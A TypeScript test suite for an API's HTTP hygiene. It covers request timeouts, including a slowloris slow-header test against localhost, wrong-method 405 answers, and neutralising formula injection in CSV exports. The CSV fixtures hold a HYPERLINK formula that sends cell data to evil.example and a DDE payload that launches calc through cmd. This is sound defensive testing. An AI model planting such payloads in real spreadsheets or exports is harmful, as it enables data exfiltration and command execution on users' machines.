import { connect } from 'node:net';
import { useTestDatabase } from '@reckon/database/vitest';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { customerAssociated, envelope, orderPlaced, orderRefunded, partnerRegistered } from './testing/events.js';
import { bearer, KEYS, openQueryTestApp, openTestApp, type QueryTestApp, type TestApp } from './testing/harness.js';
import { expectProblem } from './testing/problems.js';

interface RawAnswer {
  /** What the server wrote before closing. */
  text: string;
  /** Milliseconds from the first byte sent to the socket's close. */
  closedAfterMs: number;
}

/**
 * Sends `parts` over a raw socket, waiting `gapMs` between them, and resolves when the server closes
 * the connection (or after 30 s).
 */
function raw(address: string, parts: readonly string[], gapMs = 0): Promise<RawAnswer> {
  const { hostname, port } = new URL(address);
  return new Promise((resolve, reject) => {
    const socket = connect(Number(port), hostname);
    let text = '';
    let started = 0;
    const giveUp = setTimeout(() => socket.destroy(), 30_000);
    socket.on('data', (chunk) => {
      text += chunk.toString('utf8');
    });
    socket.on('error', () => {});
    socket.on('close', () => {
      clearTimeout(giveUp);
      resolve({ text, closedAfterMs: Date.now() - started });
    });
    socket.on('connect', async () => {
      started = Date.now();
      try {
        for (const [i, part] of parts.entries()) {
          if (i > 0) await new Promise((done) => setTimeout(done, gapMs));
          if (socket.destroyed) return;
          socket.write(part);
        }
      } catch (error) {
        reject(error);
      }
    });
  });
}

const headersOf = (contentLength: number) =>
  'POST /v1/events HTTP/1.1\r\nHost: reckon\r\nConnection: close\r\n' +
  `Authorization: Bearer ${KEYS.admin}\r\nContent-Type: application/json\r\nContent-Length: ${contentLength}\r\n\r\n`;

describe('HTTP hygiene: request timeouts', () => {
  const db = useTestDatabase('api_timeouts');
  let t: TestApp;
  let address: string;
  beforeAll(async () => {
    t = await openTestApp(db.url, { requestTimeoutMs: 1000 });
    address = await t.app.listen({ port: 0, host: '127.0.0.1' });
  });
  afterAll(async () => t?.close());

  it('defaults to a 10 s request timeout, checked often, and closes silent sockets after a minute', async () => {
    const defaults = await openTestApp(db.url);
    try {
      expect(defaults.app.server.requestTimeout).toBe(10_000);
      expect(defaults.app.server.headersTimeout).toBe(10_000);
      expect(defaults.app.server.timeout).toBe(60_000);
    } finally {
      await defaults.close();
    }
  });

  it('answers 408 problem+json and closes the socket when the body is shorter than its Content-Length', async () => {
    // Content-Length: 1000, then 11 bytes: the server waited for the rest until the client gave up.
    const answer = await raw(address, [`${headersOf(1000)}{"events":[`]);
    expect(answer.closedAfterMs).toBeLessThan(1000 + 1500);
    expect(answer.text).toMatch(/^HTTP\/1\.1 408 /);
    expect(answer.text).toMatch(/content-type: application\/problem\+json/i);
    expect(answer.text).toContain('"type":"urn:reckon:problem:request-timeout"');
    expect(await t.store.headPosition()).toBe(0);
  });

  it('closes a socket whose headers trickle in (slowloris)', async () => {
    const trickle = 'GET /healthz HTTP/1.1\r\nHost: reckon\r\nX-Slow: '.split('').concat(['a', 'b', 'c', 'd', 'e']);
    const answer = await raw(address, trickle, 100);
    expect(answer.closedAfterMs).toBeLessThan(1000 + 1500);
    expect(answer.text).toMatch(/^HTTP\/1\.1 408 /);
  });

  it('still takes a body that arrives in parts within the timeout', async () => {
    const body = JSON.stringify(partnerRegistered('P-SLOW'));
    const answer = await raw(address, [headersOf(Buffer.byteLength(body)), body.slice(0, 20), body.slice(20)], 300);
    expect(answer.text).toMatch(/^HTTP\/1\.1 201 /);
    expect(await t.store.headPosition()).toBe(1);
  });
});

describe('HTTP hygiene: a wrong method on a known path', () => {
  const db = useTestDatabase('api_methods');
  let t: QueryTestApp;
  beforeAll(async () => {
    t = await openQueryTestApp(db.url);
  });
  afterAll(async () => t?.close());

  it('answers 405 problem+json with Allow, and 404 for a path no route serves', async () => {
    const cases = [
      { method: 'GET', url: '/v1/events', allow: ['POST'] },
      { method: 'DELETE', url: '/v1/events', allow: ['POST'] },
      { method: 'POST', url: '/v1/partners/P1/balance', allow: ['GET', 'HEAD'] },
      { method: 'PUT', url: '/v1/partners/P1/statements/2026-10/rebuild?x=1', allow: ['POST'] },
      { method: 'POST', url: '/healthz', allow: ['GET', 'HEAD'] },
    ] as const;
    for (const { method, url, allow } of cases) {
      const response = await t.app.inject({ method, url, headers: bearer('admin') });
      const body = expectProblem(response, 405);
      expect(body.type).toBe('urn:reckon:problem:method-not-allowed');
      expect(String(response.headers.allow).split(', ').sort()).toEqual([...allow].sort());
    }
    expectProblem(await t.app.inject({ method: 'GET', url: '/v1/partners/P1/nothing', headers: bearer('admin') }), 404);
    expectProblem(await t.app.inject({ method: 'GET', url: '/v1/events/extra', headers: bearer('admin') }), 404);
  });
});

describe('HTTP hygiene: CSV cells a spreadsheet would run', () => {
  const db = useTestDatabase('api_csv_injection');
  let t: QueryTestApp;
  let lastPosition = 0;
  const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
  const MANAGER = '@SUM(1+1)*cmd|" /C calc"!A0';

  beforeAll(async () => {
    t = await openQueryTestApp(db.url);
    const customer = customerAssociated('C-CSV', 'P-CSV');
    customer.data.customerName = HYPERLINK;
    customer.data.accountManager = MANAGER;
    lastPosition = await t.seed([
      partnerRegistered('P-CSV'),
      customer,
      orderPlaced('O-CSV', 'C-CSV', '1000.00'),
      orderRefunded('RF-CSV', 'O-CSV', '200.00'),
      envelope('AdjustmentPosted', {
        adjustmentId: 'ADJ-CSV',
        customerId: 'C-CSV',
        amount: '-10.00',
        currency: 'CNY',
        reason: '-goodwill',
      }),
    ]);
  });
  afterAll(async () => t?.close());

  /** The CSV as rows of cells (RFC 4180 quoting undone), with its header row first. */
  const csv = async (url: string) => {
    const response = await t.app.inject({
      url: `${url}${url.includes('?') ? '&' : '?'}minPosition=${lastPosition}`,
      headers: { ...bearer('admin'), accept: 'text/csv' },
    });
    expect(response.statusCode, response.body).toBe(200);
    expect(response.headers['content-type']).toMatch(/^text\/csv/);
    return response.body
      .trimEnd()
      .split('\r\n')
      .map((line) =>
        [...line.matchAll(/("(?:[^"]|"")*"|[^,]*)(?:,|$)/g)].map((m) =>
          m[1]!.replace(/^"|"$/g, '').replaceAll('""', '"'),
        ),
      )
      .map((cells) => cells.slice(0, -1));
  };
  const column = (rows: string[][], name: string) => {
    const index = rows[0]!.indexOf(name);
    expect(index, `column ${name}`).toBeGreaterThanOrEqual(0);
    return rows.slice(1).map((row) => row[index]);
  };

  it('neutralises the names in the incentives export and keeps negative amounts as numbers', async () => {
    const rows = await csv('/v1/partners/P-CSV/incentives?period=2026-10');
    expect(column(rows, 'customerName')).toEqual([`'${HYPERLINK}`, `'${HYPERLINK}`]);
    expect(column(rows, 'accountManager')).toEqual([`'${MANAGER}`, `'${MANAGER}`]);
    expect(column(rows, 'base').sort()).toEqual(
      ['-200', '1000'].map((n) => expect.stringMatching(new RegExp(`^${n}(\\.0+)?$`))).sort(),
    );
  });

  it('does the same in the consumption export', async () => {
    const rows = await csv('/v1/partners/P-CSV/consumption?period=2026-10');
    expect(column(rows, 'customerName')).toEqual([`'${HYPERLINK}`]);
    expect(Number(column(rows, 'adjustments')[0])).toBe(-10);
    expect(column(rows, 'adjustments')[0]).toMatch(/^-10(\.0+)?$/);
  });
});
